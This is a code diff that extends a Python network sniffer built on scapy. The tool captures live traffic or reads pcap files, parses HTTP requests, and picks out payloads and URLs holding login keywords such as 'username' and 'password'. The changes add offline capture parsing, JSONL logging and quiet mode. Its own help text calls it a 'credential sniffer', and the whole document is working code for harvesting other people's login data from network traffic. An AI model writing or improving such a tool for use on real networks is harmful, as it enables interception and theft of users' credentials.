@@ -1,42 +1,161 @@
 #!/usr/bin/env python
 
-import scapy.all as scapy
-from scapy.layers import http
-import subprocess
-import netifaces
-
-def sniff(interface):
-    scapy.sniff(iface=interface, store=False, prn=process_sniffed_packet)
-
-def get_url(packet):
-    return "{}{}".format(packet[http.HTTPRequest].Host, packet[http.HTTPRequest].Path)
-
-def get_login_info(packet):
-    if packet.haslayer(scapy.Raw):
-        # print(packet)
-        load = packet[scapy.Raw].load
-        keywords = [
-            'username', 'login', 'uname',
-            'user', 'password', 'pass',
-            'passwd', 'sign', 'name'
-        ]
-
-        for keyword in keywords:
-            if keyword in load:
-                return load
-
-def process_sniffed_packet(packet):
-    if packet.haslayer(http.HTTPRequest):
-        # print(packet.show())
-        url = get_url(packet)
-        print("[+] HTTP Request >>> {}".format(url))
-        login_info = get_login_info(packet)
-        if login_info: 
-            print("\n"*2)
-            print("="*60)
-            print("[+] Possible username/password")
-            print(login_info)
-            print("="*60)
+import argparse
+import json
+import sys
+import time
+
+from util.pcap import PcapError, iter_pcap, tcp_segment
+
+try:
+    import scapy.all as scapy
+except ImportError:
+    scapy = None
+
+try:
+    import netifaces
+except ImportError:
+    netifaces = None
+
+"""
+python3 packet_sniffer.py                         # pick an interface, sniff live
+python3 packet_sniffer.py -i eth0 -o hits.jsonl
+python3 packet_sniffer.py --read capture.pcap -o hits.jsonl -q
+
+--read streams the capture packet by packet (pcap or pcapng, no scapy needed),
+memory stays flat on multi-GB files. Live and offline run the same analysis on
+the raw TCP payload and write the same JSONL records.
+
+pip3 install scapy netifaces   # live sniffing only
+"""
+
+HTTP_METHODS = (b"GET ", b"POST ", b"PUT ", b"PATCH ", b"DELETE ", b"HEAD ", b"OPTIONS ")
+KEYWORDS = [
+    b'username', b'login', b'uname',
+    b'user', b'password', b'pass',
+    b'passwd', b'sign', b'name'
+]
+
+
+def sniff(interface, output=None, quiet=False):
+    scapy.sniff(
+        iface=interface,
+        store=False,
+        prn=lambda packet: process_sniffed_packet(packet, output, quiet),
+    )
+
+
+def parse_http_request(payload):
+    """(method, host, path, body) when the payload starts an HTTP request, else None."""
+    if not payload.startswith(HTTP_METHODS):
+        return None
+    head, _, body = payload.partition(b"\r\n\r\n")
+    lines = head.split(b"\r\n")
+    request_line = lines[0].split(b" ")
+    if len(request_line) < 3:
+        return None
+    host = b""
+    for line in lines[1:]:
+        name, _, value = line.partition(b":")
+        if name.strip().lower() == b"host":
+            host = value.strip()
+            break
+    return request_line[0], host, request_line[1], body
+
+
+def endpoint(address, port):
+    if ":" in str(address):
+        return "[{}]:{}".format(address, port)
+    return "{}:{}".format(address, port)
+
+
+def get_url(host, path):
+    return "{}{}".format(host.decode("latin-1"), path.decode("latin-1"))
+
+
+def get_login_info(load):
+    # the payload is bytes, so the keywords are too
+    lowered = load.lower()
+    for keyword in KEYWORDS:
+        if keyword in lowered:
+            return load
+
+
+def analyze(payload, timestamp, src, dst):
+    request = parse_http_request(payload)
+    if request is None:
+        return None
+    method, host, path, body = request
+    # GET /login?user=..&pass=.. carries them in the request target, not the body
+    matches = [part for part in (path, body) if part and get_login_info(part)]
+    login_info = b"\n".join(matches)
+    return {
+        "time": round(timestamp, 6),
+        "src": src,
+        "dst": dst,
+        "method": method.decode("latin-1"),
+        "url": get_url(host, path),
+        "login": login_info.decode("latin-1") if login_info else None,
+    }
+
+
+def report(record, output=None, quiet=False):
+    if not quiet:
+        print("[+] HTTP Request >>> {}".format(record["url"]))
+    if record["login"]:
+        print("\n"*2)
+        print("="*60)
+        print("[+] Possible username/password")
+        print(record["login"])
+        print("="*60)
+    if output is not None:
+        output.write(json.dumps(record) + "\n")
+
+
+def process_sniffed_packet(packet, output=None, quiet=False):
+    if not packet.haslayer(scapy.TCP):
+        return
+    ip = packet[scapy.IP] if packet.haslayer(scapy.IP) else packet[scapy.IPv6]
+    tcp = packet[scapy.TCP]
+    record = analyze(
+        bytes(tcp.payload),
+        float(packet.time),
+        endpoint(ip.src, tcp.sport),
+        endpoint(ip.dst, tcp.dport),
+    )
+    if record is not None:
+        report(record, output, quiet)
+
+
+def read_capture(path, output=None, quiet=False):
+    packets = requests = 0
+    first = last = None
+    start = time.monotonic()
+    for timestamp, linktype, frame in iter_pcap(path):
+        packets += 1
+        if first is None:
+            first = timestamp
+        last = timestamp
+        # cheap filter first, only request lines carry " HTTP/1."
+        if b" HTTP/1." not in frame:
+            continue
+        segment = tcp_segment(linktype, frame)
+        if segment is None:
+            continue
+        src, sport, dst, dport, payload = segment
+        record = analyze(payload, timestamp, endpoint(src, sport), endpoint(dst, dport))
+        if record is not None:
+            requests += 1
+            report(record, output, quiet)
+
+    elapsed = time.monotonic() - start
+    span = (last - first) if packets else 0.0
+    print(
+        "[+] {} packets, {} HTTP requests in {:.2f}s ({:.0f} packets/s), capture spans {:.2f}s".format(
+            packets, requests, elapsed, packets / elapsed if elapsed else 0, span
+        )
+    )
+
 
 def get_interfaces():
     i = 0
@@ -49,6 +168,40 @@ def get_interfaces():
     return interfaces
 
 
-interfaces = get_interfaces()
-choice = input("Give me the number: ")
-sniff(interfaces[int(choice)])
+def main():
+    parser = argparse.ArgumentParser(description="HTTP request and credential sniffer")
+    parser.add_argument("-i", "--interface", help="Interface to sniff, asked for when not given")
+    parser.add_argument("-r", "--read", help="Analyze a pcap/pcapng file instead of sniffing")
+    parser.add_argument("-o", "--output", help="Append JSONL records to this file")
+    parser.add_argument(
+        "-q", "--quiet", action="store_true", help="Only print possible credentials"
+    )
+    args = parser.parse_args()
+
+    output = open(args.output, "a") if args.output else None
+    try:
+        if args.read:
+            read_capture(args.read, output, args.quiet)
+            return
+        if scapy is None:
+            parser.error("live sniffing needs scapy: pip3 install scapy")
+        interface = args.interface
+        if not interface:
+            if netifaces is None:
+                parser.error("give -i, or pip3 install netifaces to pick one")
+            interfaces = get_interfaces()
+            choice = input("Give me the number: ")
+            interface = interfaces[int(choice)]
+        sniff(interface, output, args.quiet)
+    except (OSError, PcapError) as e:
+        print("[-] {}".format(e))
+        sys.exit(1)
+    except KeyboardInterrupt:
+        print("[-] Interrupted")
+    finally:
+        if output is not None:
+            output.close()
+
+
+if __name__ == "__main__":
+    main()